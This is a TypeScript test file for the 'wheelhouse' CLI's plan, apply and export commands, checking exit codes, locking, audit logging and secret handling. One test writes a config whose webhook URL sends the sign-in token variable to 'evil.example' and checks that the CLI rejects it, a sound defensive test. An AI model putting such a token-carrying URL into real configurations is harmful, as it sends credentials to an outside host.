import { readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { runCli } from '../../support/server/process/runCli.ts'
import { runCommandHere } from '../../support/server/process/runCommandHere.ts'
import { startServerHere } from '../../support/server/process/startServerHere.ts'
import { temporaryFolder } from '../../support/server/temporaryFolder.ts'

const password = 'correct horse'

/** A data folder whose server has run once, with a file beside it. */
async function startedOnce() {
  const folder = temporaryFolder()
  const settings = { DATA_DIR: join(folder, 'data'), ADMIN_PASSWORD: password }
  const server = await startServerHere(settings)
  return { server, settings, file: join(folder, 'monitoring.yaml') }
}

describe('wheelhouse export, plan and apply', () => {
  it('work on the data folder of a server that is stopped, with exit codes for scripts', async () => {
    const { server, settings, file } = await startedOnce()
    writeFileSync(
      file,
      '# Ada looks after this\ncron: [{ name: nightly, scheduler: "0 0 3 * * *", command: apt update }]\n',
    )
    const locked = await runCli(['plan', file], settings)
    expect(locked).toMatchObject({ code: 1, stdout: '' })
    expect(locked.stderr).toContain('stop it first, or do this with it (--server, or in the console)')

    await server.stop()
    const planned = await runCli(['plan', file], settings)
    expect(planned).toMatchObject({ code: 2, stderr: '' })
    expect(planned.stdout).toContain('+ cron "nightly"')
    expect(planned.stdout).toContain('1 to create, 0 to change, 0 to delete, 0 unchanged.')
    expect(await runCommandHere(['apply', file], settings)).toMatchObject({ code: 0, stderr: '' })
    const again = await runCommandHere(['plan', file], settings)
    expect(again).toMatchObject({ code: 0, stdout: '0 to create, 0 to change, 0 to delete, 1 unchanged.\n' })
    expect(readFileSync(join(settings.DATA_DIR, 'audit.log'), 'utf8')).toContain('"action":"configuration.apply"')

    expect(await runCli(['export', file], settings)).toMatchObject({ code: 0 })
    const text = readFileSync(file, 'utf8')
    expect(text).toContain('# Ada looks after this')
    expect(text).toContain('push_successful: false')
    const mode = statSync(file).mode
    writeFileSync(file, `${text}nat: [{ nmae: x }]\n`)
    const wrong = await runCommandHere(['apply', file], settings)
    expect(wrong).toMatchObject({ code: 1, stdout: '' })
    expect(wrong.stderr).toMatch(/monitoring\.yaml:\d+:1: This field is there twice\.|nat has no field nmae/)
    expect(statSync(file).mode).toBe(mode)
  })

  it('work on a server that runs', async () => {
    const { server, settings, file } = await startedOnce()
    writeFileSync(file, 'notification: [{ name: hook, url: "$' + '{HOOK}" }]\n')
    const on = ['--server', server.address, '--user', 'admin']
    const access = { ...settings, WHEELHOUSE_PASSWORD: password }
    expect((await runCommandHere(['plan', file, ...on], access)).stderr).toContain(
      'the variable $' + '{HOOK} is not set',
    )
    const stolen = { ...access, WHEELHOUSE_TOKEN: 'of the pipeline' }
    writeFileSync(file, 'notification: [{ name: hook, url: "https://evil.example/$' + '{WHEELHOUSE_TOKEN}" }]\n')
    const reserved = await runCommandHere(['apply', file, ...on], stolen)
    expect(reserved).toMatchObject({ code: 1, stdout: '' })
    expect(reserved.stderr).toContain('a file cannot use $' + '{WHEELHOUSE_TOKEN}, which is for signing in')
    writeFileSync(file, 'notification: [{ name: hook, url: "$' + '{HOOK}" }]\n')
    const applied = await runCli(['apply', file, ...on], { ...access, HOOK: 'https://hooks.example.org/secret' })
    expect(applied).toMatchObject({ code: 0, stderr: '' })
    expect(applied.stdout).not.toContain('secret/')
    expect(applied.stdout).toContain('Secrets that are sent use the variables: HOOK.')
    expect(await runCommandHere(['plan', file, ...on], access)).toMatchObject({ code: 0 })
    const refused = await runCommandHere(['plan', file, '--server', server.address, '--token', 'wrong'], access)
    expect(refused).toMatchObject({ code: 1, stderr: 'The server does not accept this token or password.\n' })
    await server.stop()
  })

  it.each([
    [['plan'], 'Say which: wheelhouse plan FILE'],
    [['apply', 'missing.yaml'], 'missing.yaml cannot be read (ENOENT).'],
    [['plan', 'package.json', '--server', 'http://127.0.0.1:9', '--token', 'y'], 'http://127.0.0.1:9 does not answer'],
  ])('end with exit code 1 and a sentence for %j', async (args, words) => {
    const refused = await runCli(args, { DATA_DIR: temporaryFolder() })
    expect(refused).toMatchObject({ code: 1, stdout: '' })
    expect(refused.stderr).toContain(words)
  })
})
